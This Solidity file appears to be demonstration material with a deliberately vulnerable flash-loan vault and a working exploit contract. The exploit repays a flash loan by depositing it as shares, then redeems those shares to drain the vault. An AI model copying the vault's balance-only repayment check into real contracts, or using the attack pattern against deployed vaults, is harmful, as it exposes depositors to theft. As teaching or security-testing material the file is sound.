// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

interface IFlashBorrower {
    function onFlashLoan(IERC20 token, uint256 amount) external;
}

/// @title A share vault in the manner of ERC-4626 that also lends its assets within one transaction.
/// @dev Unsafe on purpose: a loan counts as repaid when the balance is back, even if it came back as a
///      deposit that minted shares. Never deploy it where money is.
contract DemoVault is ERC20 {
    using SafeERC20 for IERC20;

    IERC20 private immutable _asset;

    error NotRepaid(uint256 expected, uint256 got);

    constructor(IERC20 asset_) ERC20("Demo vault share", "dvUSD") {
        _asset = asset_;
    }

    function deposit(uint256 assets, address receiver) external returns (uint256 shares) {
        shares = convertToShares(assets);
        _asset.safeTransferFrom(msg.sender, address(this), assets);
        _mint(receiver, shares);
    }

    function redeem(uint256 shares, address receiver, address owner) external returns (uint256 assets) {
        if (msg.sender != owner) _spendAllowance(owner, msg.sender, shares);
        assets = convertToAssets(shares);
        _burn(owner, shares);
        _asset.safeTransfer(receiver, assets);
    }

    function flashLoan(uint256 amount) external {
        uint256 before = totalAssets();
        _asset.safeTransfer(msg.sender, amount);
        IFlashBorrower(msg.sender).onFlashLoan(_asset, amount);
        require(totalAssets() >= before, NotRepaid(before, totalAssets()));
    }

    function asset() external view returns (address) {
        return address(_asset);
    }

    function totalAssets() public view returns (uint256) {
        return _asset.balanceOf(address(this));
    }

    function convertToShares(uint256 assets) public view returns (uint256) {
        return assets * (totalSupply() + 1) / (totalAssets() + 1);
    }

    function convertToAssets(uint256 shares) public view returns (uint256) {
        return shares * (totalAssets() + 1) / (totalSupply() + 1);
    }
}

/// @title Borrows from the vault, repays by depositing, and redeems the shares.
contract DemoVaultAttack is IFlashBorrower {
    using SafeERC20 for IERC20;

    DemoVault private immutable _vault;
    address private immutable _owner;

    constructor(DemoVault vault) {
        _vault = vault;
        _owner = msg.sender;
    }

    function attack(uint256 amount) external {
        _vault.flashLoan(amount);
        _vault.redeem(_vault.balanceOf(address(this)), _owner, address(this));
    }

    function onFlashLoan(IERC20 token, uint256 amount) external {
        token.forceApprove(address(_vault), amount);
        _vault.deposit(amount, address(this));
    }
}
